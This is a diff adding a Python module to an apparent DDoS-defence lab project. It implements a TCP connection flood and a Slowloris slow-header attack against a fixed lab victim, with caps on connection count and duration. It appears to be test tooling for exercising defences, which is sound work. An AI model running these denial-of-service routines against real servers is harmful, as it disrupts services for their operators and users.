@@ -1,0 +1,101 @@
+"""Connection attacks in the lab: real TCP connections to the victim's web server.
+
+::
+
+    report = connection_flood(count=300, rate=40)      # 300 connections, 40 a second, each one request
+    report = slow_attack(count=150, seconds=12, every=3)  # 150 connections held open, a header line every 3 s
+
+Both run from the lab client's namespace (dsl-cli): the attacker's namespace cannot
+complete a handshake (the lab drops SYN-ACKs to it, see :mod:`~ddos_shield.lab.topology`).
+They are bounded by ``count`` connections and by time, target only the lab victim,
+and close every socket before returning.  No spoofing: a connection needs a real source.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import socket
+import time
+from dataclasses import dataclass
+
+from ddos_shield import lab
+from ddos_shield.errors import LabError
+from ddos_shield.lab.netns import netns_socket
+
+MAX_CONNECTIONS = 1000
+MAX_SECONDS = 60.0
+
+
+@dataclass(frozen=True)
+class ConnectionReport:
+    opened: int  # connections whose handshake completed
+    failed: int
+    seconds: float
+
+
+def _open(family: int, timeout: float) -> socket.socket | None:
+    af = socket.AF_INET if family == 4 else socket.AF_INET6
+    target = str(lab.VICTIM_V4 if family == 4 else lab.VICTIM_V6)
+    s = netns_socket(lab.NS_CLIENT, af, socket.SOCK_STREAM)
+    s.settimeout(timeout)
+    try:
+        s.connect((target, lab.VICTIM_HTTP_PORT))
+    except OSError:
+        s.close()
+        return None
+    return s
+
+
+def _check(count: int, seconds: float) -> None:
+    if not 0 < count <= MAX_CONNECTIONS:
+        raise LabError(f"count: expected 1..{MAX_CONNECTIONS} connections, got {count!r}")
+    if not 0 < seconds <= MAX_SECONDS:
+        raise LabError(f"seconds: expected a number in (0, {MAX_SECONDS}], got {seconds!r}")
+
+
+def connection_flood(count: int, rate: float, family: int = 4) -> ConnectionReport:
+    """Open ``count`` connections at ``rate`` a second, each sending one request and closing."""
+    _check(count, count / rate)
+    t0 = time.monotonic()
+    opened = failed = 0
+    for i in range(count):
+        delay = t0 + i / rate - time.monotonic()
+        if delay > 0:
+            time.sleep(delay)
+        s = _open(family, timeout=1.0)
+        if s is None:
+            failed += 1
+            continue
+        opened += 1
+        with contextlib.closing(s), contextlib.suppress(OSError):
+            s.sendall(b"GET / HTTP/1.0\r\nHost: victim\r\n\r\n")
+    return ConnectionReport(opened, failed, time.monotonic() - t0)
+
+
+def slow_attack(count: int, seconds: float, every: float, family: int = 4) -> ConnectionReport:
+    """Slowloris: open ``count`` connections with an unfinished request and keep each alive
+    with one header line every ``every`` seconds for ``seconds``; then close them all."""
+    _check(count, seconds)
+    t0 = time.monotonic()
+    socks: list[socket.socket] = []
+    failed = 0
+    try:
+        for _ in range(count):
+            s = _open(family, timeout=1.0)
+            if s is None:
+                failed += 1
+                continue
+            with contextlib.suppress(OSError):
+                s.sendall(b"GET / HTTP/1.1\r\nHost: victim\r\n")
+            socks.append(s)
+        n = 0
+        while time.monotonic() - t0 < seconds:
+            time.sleep(min(every, max(0.0, seconds - (time.monotonic() - t0))))
+            n += 1
+            for s in socks:
+                with contextlib.suppress(OSError):
+                    s.sendall(f"X-Keep-{n}: a\r\n".encode())
+    finally:
+        for s in socks:
+            s.close()
+    return ConnectionReport(len(socks), failed, time.monotonic() - t0)
